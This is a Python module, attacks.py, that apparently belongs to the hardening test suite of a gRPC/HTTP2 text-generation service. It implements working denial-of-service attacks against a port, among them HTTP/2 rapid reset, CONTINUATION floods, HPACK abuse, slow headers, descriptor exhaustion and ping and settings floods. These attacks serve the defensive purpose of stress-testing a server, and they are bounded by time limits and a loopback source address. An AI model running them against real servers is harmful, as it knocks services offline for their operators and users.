"""What strangers do to a port, each as a function, and as a process of its own that hardening.py and the tests start:

    python attacks.py NAME HOST:PORT --seconds 30

It prints one JSON object: how much it did, and what the server made of it. Everything is bounded by the seconds and by the counts
below. Attackers come from 127.0.0.2, so that limits per peer meet them and nobody else.
"""
import argparse
import contextlib
import itertools
import json
import random
import resource
import socket
import struct
import sys
import time

import grpc

import hpack
import http2

SOURCE = "127.0.0.2"
SERVICE = "/dejavu.v1.GenerationService/"
PATIENCE_S = 5  # of an attacker for one thing
STREAM_PATIENCE_S = 60  # of somebody who wants a stream to its end
ERRORS = (OSError, http2.Closed)


def connect(address, **fields):
    return http2.Connection(address, source=SOURCE, patience_s=PATIENCE_S, **fields)


def plain_socket(address):
    host, port = address.rsplit(":", 1)
    peer = socket.socket()
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # a close leaves no TIME_WAIT behind
    peer.settimeout(PATIENCE_S)
    try:
        peer.bind((SOURCE, 0))
        peer.connect((host, int(port)))
    except OSError:
        peer.close()
        raise
    return peer


def open_many(address, count, end):
    """As many of them as there are to be had."""
    peers = []
    while len(peers) < count and time.monotonic() < end:
        try:
            peers.append(plain_socket(address))
        except OSError:
            break
    return peers


def alive(peers):
    """How many of them the server has not closed."""
    found = 0
    for peer in peers:
        peer.setblocking(False)
        try:
            while peer.recv(1 << 16):
                pass
        except BlockingIOError:
            found += 1
        except OSError:
            pass
    return found


def churn(address, seconds, count=1200):
    """Connections opened by the hundred and closed, again and again: more than the daemon has descriptors for."""
    end, opened, rounds, refused = time.monotonic() + seconds, 0, 0, 0
    while time.monotonic() < end:
        peers = open_many(address, count, end)
        opened, rounds, refused = opened + len(peers), rounds + 1, refused + (not peers)
        for peer in peers:
            peer.close()
        if not peers:
            time.sleep(0.05)
    return dict(opened=opened, rounds=rounds, rounds_refused=refused)


def hold(address, seconds, count=1500, greeting=b""):
    """More connections than there are descriptors, held."""
    end = time.monotonic() + seconds
    peers = open_many(address, count, end)
    for peer in peers:
        with contextlib.suppress(OSError):
            peer.sendall(greeting)
    while time.monotonic() < end:
        time.sleep(0.05)
    kept = alive(peers)
    for peer in peers:
        peer.close()
    return dict(opened=len(peers), kept=kept)


def idle(address, seconds, count=2000):
    """HTTP/2 connections on which nothing happens."""
    return hold(address, seconds, count, http2.PREFACE + http2.settings())


def slow_headers(address, seconds, count=200):
    """Connections on which a header frame comes byte by byte."""
    end = time.monotonic() + seconds
    peers = open_many(address, count, end)
    content = http2.PREFACE + http2.settings() + http2.headers(1, http2.grpc_headers(SERVICE + "Generate", [("x-slow", "s" * 16000)]))
    whole = len(http2.PREFACE) + 9
    for peer in peers:
        with contextlib.suppress(OSError):
            peer.sendall(content[:whole])
    for at in range(whole, len(content)):
        for peer in peers:
            with contextlib.suppress(OSError):
                peer.send(content[at:at + 1])
        left = end - time.monotonic()
        if left <= 0:
            break
        time.sleep(min(0.1, left))
    kept = alive(peers)
    for peer in peers:
        peer.close()
    return dict(opened=len(peers), kept=kept)


def pour(address, seconds, make, connections=4, count=None, **fields):
    """Buffers of `make(first_stream)`, which returns bytes and the next stream's number, on so many connections in turn; a new one
    for each that the server closes. `count`: as many buffers at most."""
    end, buffers, reconnects, refused = time.monotonic() + seconds, 0, 0, 0
    peers, amount = [], 0
    while time.monotonic() < end and (count is None or buffers < count):
        while len(peers) < connections and time.monotonic() < end:
            try:
                peers.append((connect(address, **fields), 1))
                peers[-1][0].send(http2.settings_ack())
            except ERRORS:
                refused += 1
                time.sleep(0.05)
        if not peers:
            break
        peer, first = peers.pop(0)
        content, following = make(first)
        if peer.pour(content, min(end, time.monotonic() + PATIENCE_S)):
            peers.append((peer, following))
            buffers, amount = buffers + 1, amount + len(content)
        else:
            peer.close(abruptly=True)
            reconnects += 1
    kept = alive([peer.socket for peer, _ in peers])
    while time.monotonic() < end and count is not None:  # holds what it has done
        time.sleep(0.05)
    for peer, _ in peers:
        peer.close(abruptly=True)
    return dict(buffers=buffers, mib=round(amount / 2**20, 1), closed_by_server=reconnects, refused=refused, kept=kept)


def rapid_reset(address, seconds, each=1000):
    found = pour(address, seconds, lambda first: (http2.rapid_resets(first, each, SERVICE + "GenerateStream"), first + 2 * each))
    return dict(resets=found["buffers"] * each, **found)


def continuation(address, seconds):
    """One header block for each connection, of frames without end."""
    def make(first):
        if first == 1:
            return http2.endless_headers(1, SERVICE + "Generate", 32), 3
        return b"".join(http2.continuation(1, hpack.literal(f"x-{first}-{i}", "v" * 16000)) for i in range(32)), first + 1
    return pour(address, seconds, make)


def indexed_headers(address, seconds):
    """The same with headers of one byte each, which name an entry of the dynamic table: the most memory and work for a byte."""
    entry = b"\x40" + hpack.string("a") + hpack.string("b" * 32)

    def make(first):
        start = http2.headers(1, hpack.encode(http2.grpc_headers(SERVICE + "Generate")) + entry, end_headers=False) if first == 1 else b""
        return start + http2.continuation(1, b"\xbe" * 16000) * 16, 3

    return pour(address, seconds, make)


def endless_integer(address, seconds):
    def make(first):
        return (http2.endless_integer(1, SERVICE + "Generate", 32) if first == 1 else http2.continuation(1, b"\x80" * 16000) * 32), 3
    return pour(address, seconds, make)


def endless_zeros(address, seconds):
    def make(first):
        return (http2.endless_zeros(1, SERVICE + "Generate", 32) if first == 1 else http2.continuation(1, b"\x80" * 16000) * 32), 3
    return pour(address, seconds, make)


def pings(address, seconds):
    return pour(address, seconds, lambda first: (http2.pings(3000), first))


def settings(address, seconds):
    return pour(address, seconds, lambda first: (http2.settings_changes(3000), first))


def open_calls(address, seconds, count=10000, each=200):
    """Calls without a message, on as many connections as they need."""
    return dict(calls=count, **pour(address, seconds, lambda first: (http2.open_calls(first, each, SERVICE + "Generate"), first + 2 * each),
                                    connections=count // each, count=count // each))


def score_request(tokens, top_logprobs):
    """ScoreRequest in bytes."""
    ids = b"".join(varint(5 + i % 1000) for i in range(tokens))
    inner = b"\x0a" + varint(len(ids)) + ids
    return b"\x22" + varint(len(inner)) + inner + b"\x28" + varint(top_logprobs)


def varint(value):
    return bytes([value]) if value < 128 else bytes([value & 127 | 128]) + varint(value >> 7)


def unread_scores(address, seconds, count=1000, tokens=512, top_logprobs=100):
    """Replies of half a megabyte whose client opens no window: 20 at a time, so that they do not fill the queue, and 200 for each
    connection."""
    peers, end, refused, request = [], time.monotonic() + seconds, 0, score_request(tokens, top_logprobs)
    for _ in range(count // 200):
        try:
            peers.append((connect(address, settings_sent={http2.INITIAL_WINDOW: 0}, connection_window=None, credit=False), []))
            peer, asked = peers[-1]
            for _ in range(10):
                asked += [peer.call(SERVICE + "Score", request) for _ in range(20)]
                # Headers need no window: they tell that a reply has been made.
                peer.until(lambda: all(peer.stream(i).headers or peer.stream(i).ended for i in asked), end - time.monotonic())
        except ERRORS:
            refused += 1
        if time.monotonic() >= end:
            break
    while time.monotonic() < end:
        time.sleep(0.05)
    answers = {}
    for peer, asked in peers:
        for stream in map(peer.stream, asked):
            answer = f"code {stream.code}" if stream.code is not None else f"reset {stream.reset}" if stream.ended else "open"
            answers[answer] = answers.get(answer, 0) + 1
    closed = len(peers) - alive([peer.socket for peer, _ in peers])
    for peer, _ in peers:
        peer.close(abruptly=True)
    return dict(connections=len(peers), given_up=refused, closed_by_server=closed, answers=answers)


def large_texts(address, seconds, clients=8, characters=4_000_000):
    """What careless clients do: texts of 4 MB, to be continued and to be counted, on eight connections, again and again. These are
    clients of grpcio, which obey flow control."""
    text = ("It was a dark night. " * (characters // 21 + 1))[:characters].encode()
    length, answers, end = varint(len(text)), {}, time.monotonic() + seconds
    methods = itertools.cycle([("Generate", b"\x1a" + length + text), ("Tokenize", b"\x12" + length + text)])
    with contextlib.ExitStack() as stack:
        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_receive_message_length", -1)]
        calls = [(stack.enter_context(grpc.insecure_channel(address, options)).unary_unary(SERVICE + method), request)
                 for _, (method, request) in zip(range(clients), methods)]
        while time.monotonic() < end:
            for future in [call.future(request, timeout=STREAM_PATIENCE_S) for call, request in calls]:
                name = future.code().name
                answers[name] = answers.get(name, 0) + 1
    return dict(answers=answers)


LARGE_METADATA = {
    "20 KiB": [("x-big", "b" * 20480)],
    "20 KiB in pieces": [(f"x-{i}", "b" * 1000) for i in range(20)],
    "900 KiB": [(f"x-{i}", "b" * 15000) for i in range(60)],
}
BAD_METADATA = LARGE_METADATA | {
    "not base64": [("x-bad-bin", "!?*")],
    "base64 cut off": [("x-bad-bin", "abcde")],
    "base64 with spaces": [("grpc-trace-bin", "AA AA")],
}


def split_headers(stream, block, end_stream=False):
    """HEADERS and as many CONTINUATION frames as it takes."""
    pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
    frames = [http2.headers(stream, pieces[0], end_stream, end_headers=len(pieces) == 1)]
    return b"".join(frames + [http2.continuation(stream, piece, piece is pieces[-1]) for piece in pieces[1:]])


def shared_connection(address, seconds, request=None, kinds=tuple(LARGE_METADATA)):
    """What a gateway does: strangers' bad calls on the connection of good streams. `request`: a GenerateRequest in bytes."""
    end, lost, whole, bad, codes, peer = time.monotonic() + seconds, 0, 0, 0, {}, None
    choose = random.Random(1)
    while time.monotonic() < end:
        try:
            if peer is None:
                peer = connect(address)
            stream = peer.call(SERVICE + "GenerateStream", request)
            peer.until(lambda: peer.stream(stream).messages or peer.stream(stream).ended)
            while not (peer.stream(stream).ended or peer.closed):
                kind = choose.choice(kinds)
                hurt = peer.next_stream()
                peer.send(split_headers(hurt, hpack.encode(http2.grpc_headers(SERVICE + "GetModelInfo", BAD_METADATA[kind])), True))
                bad += 1
                ended = peer.outcome(hurt, STREAM_PATIENCE_S)
                answer = f"{kind}: " + (f"code {ended.code}" if ended.code is not None else f"reset {ended.reset}" if ended.ended else "none")
                codes[answer] = codes.get(answer, 0) + 1
            good = peer.outcome(stream, STREAM_PATIENCE_S)
            whole, lost = whole + (good.code == 0), lost + (good.code != 0)
            if peer.closed or peer.goaway:
                peer = None
        except ERRORS:
            lost, peer = lost + 1, None
            time.sleep(0.05)
    return dict(bad_calls=bad, streams_whole=whole, streams_lost=lost, answers=codes)


def bad_base64(address, seconds, request=None):
    """gRPC 1.51 ends the connection of such a call inside its parser: whose streams they are is lost, and nobody else's."""
    result = shared_connection(address, seconds, request, kinds=[kind for kind in BAD_METADATA if kind not in LARGE_METADATA])
    return dict(bad_calls=result["bad_calls"], answers=result["answers"])


ATTACKS = {attack.__name__: attack for attack in (
    churn, hold, idle, slow_headers, rapid_reset, continuation, indexed_headers, endless_integer, endless_zeros, pings, settings, open_calls,
    unread_scores, shared_connection, bad_base64, large_texts)}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("address", metavar="HOST:PORT")
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--request", type=bytes.fromhex, help="GenerateRequest in hexadecimal, for shared_connection")
    parser.add_argument("--count", type=int, help="of what the attack counts")
    args = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 1 << 16), hard))
    fields = {key: value for key, value in (("request", args.request), ("count", args.count)) if value is not None}
    json.dump(ATTACKS[args.name](args.address, args.seconds, **fields), sys.stdout)


if __name__ == "__main__":
    main()
